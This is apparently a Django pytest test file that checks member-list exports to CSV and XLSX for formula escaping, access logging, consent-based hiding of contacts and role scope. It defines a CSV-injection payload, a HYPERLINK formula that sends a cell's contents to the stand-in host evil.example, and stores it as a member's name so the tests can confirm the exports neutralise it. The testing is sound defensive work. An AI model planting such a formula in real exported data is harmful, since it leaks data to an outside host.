"""Exports of the member list: what the user may see, formula-escaped, logged."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from fede.core.models import AccessLog

from . import screens
from .factories import MemberFactory

pytestmark = pytest.mark.django_db
paris = screens.paris  # fixture

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")'


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def read_csv(response) -> list[dict]:
    assert response["Content-Type"].startswith("text/csv")
    text = body(response).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def read_xlsx(response) -> list[dict]:
    workbook = openpyxl.load_workbook(io.BytesIO(body(response)))
    sheet = workbook.active
    values = list(sheet.iter_rows(values_only=True))
    header = values[0]
    return [dict(zip(header, row, strict=True)) for row in values[1:]]


@pytest.fixture
def hostile(paris):
    """A member of the 11e whose name is a spreadsheet formula."""
    return MemberFactory(
        section=paris.s11,
        last_name=FORMULA,
        first_name="+33 cmd",
        membership_number="7511000",
        email="piege@example.org",
        consent_share_contact=False,
    )


def test_csv_export_escapes_formulas_and_is_logged(client, paris, hostile):
    """The CSV export neutralises formulas and writes one log line with the row count."""
    user = paris.user("secretary")
    url = reverse("organization:section_member_export", args=[paris.s11.pk, "csv"])
    response = screens.login(client, user).get(url)
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    rows = read_csv(response)
    row = next(r for r in rows if r["Numéro"] == "7511000")
    assert row["Nom"] == "'" + FORMULA
    assert row["Prénom"] == "'+33 cmd"
    assert not any(value.startswith(("=", "+", "-", "@")) for r in rows for value in r.values())
    entry = AccessLog.objects.get(action="export")
    assert entry.actor == user
    assert entry.row_count == len(rows) == paris.s11.members.count()
    assert entry.detail["format"] == "csv"


def test_xlsx_export_escapes_formulas_and_is_logged(client, paris, hostile):
    """The XLSX export stores the formula as typed text (kept intact, marked as typed
    after an apostrophe), never as a formula, and is logged."""
    url = reverse("organization:section_member_export", args=[paris.s11.pk, "xlsx"])
    response = screens.login(client, paris.user("treasurer")).get(url)
    assert response.status_code == 200
    rows = read_xlsx(response)
    row = next(r for r in rows if r["Numéro"] == "7511000")
    assert row["Nom"] == FORMULA
    assert AccessLog.objects.get(action="export").row_count == len(rows)


def test_xlsx_cells_are_text_not_formulas(client, paris, hostile):
    """Every cell of the XLSX holding the hostile name is of type text."""
    url = reverse("organization:section_member_export", args=[paris.s11.pk, "xlsx"])
    response = screens.login(client, paris.user("secretary")).get(url)
    sheet = openpyxl.load_workbook(io.BytesIO(body(response))).active
    cells = [
        cell
        for row in sheet.iter_rows()
        for cell in row
        if cell.value and "HYPERLINK" in str(cell.value)
    ]
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_export_follows_the_list_filters(client, paris, hostile):
    """The export holds the current filtered list, not the whole section."""
    MemberFactory.create_batch(3, section=paris.s11)
    url = reverse("organization:section_member_export", args=[paris.s11.pk, "csv"])
    rows = read_csv(screens.login(client, paris.user("secretary")).get(url, {"q": "7511000"}))
    assert [r["Numéro"] for r in rows] == ["7511000"]
    assert AccessLog.objects.get(action="export").row_count == 1


def test_contact_columns_only_with_consent_or_for_the_federation(client, paris, hostile):
    """A section officer's export leaves out the contact details of members who did not
    agree to share them; the federation's export has them."""
    MemberFactory(section=paris.s11, membership_number="7511001", email="ok@example.org")
    url = reverse("organization:section_member_export", args=[paris.s11.pk, "csv"])
    rows = {
        r["Numéro"]: r for r in read_csv(screens.login(client, paris.user("secretary")).get(url))
    }
    assert rows["7511000"]["E-mail"] == ""
    assert rows["7511001"]["E-mail"] == "ok@example.org"
    rows = {r["Numéro"]: r for r in read_csv(screens.login(client, paris.user("staff")).get(url))}
    assert rows["7511000"]["E-mail"] == "piege@example.org"


def test_general_export_holds_only_the_users_scope(client, paris, hostile):
    """The export of "my members" of a secretary of the 11e has no one of the 15e."""
    MemberFactory(section=paris.s15, membership_number="7515000")
    url = reverse("organization:member_export", args=["csv"])
    rows = read_csv(screens.login(client, paris.user("secretary")).get(url))
    numbers = {r["Numéro"] for r in rows}
    assert "7511000" in numbers and "7515000" not in numbers
    assert {r["Section (code)"] for r in rows} == {paris.s11.code}
    rows = read_csv(screens.login(client, paris.user("staff")).get(url))
    assert "7515000" in {r["Numéro"] for r in rows}


def test_unknown_format_is_404(client, paris):
    """Only CSV and XLSX exist."""
    url = reverse("organization:section_member_export", args=[paris.s11.pk, "pdf"])
    assert screens.login(client, paris.user("secretary")).get(url).status_code == 404
    assert not AccessLog.objects.filter(action="export").exists()


def test_federal_secretary_reads_but_does_not_export(client, paris):
    """Reading member data does not include exporting it: 403, nothing logged."""
    url = reverse("organization:section_member_export", args=[paris.s11.pk, "csv"])
    response = screens.login(client, paris.user("federal_secretary")).get(url)
    assert response.status_code == 403
    assert not AccessLog.objects.filter(action="export").exists()
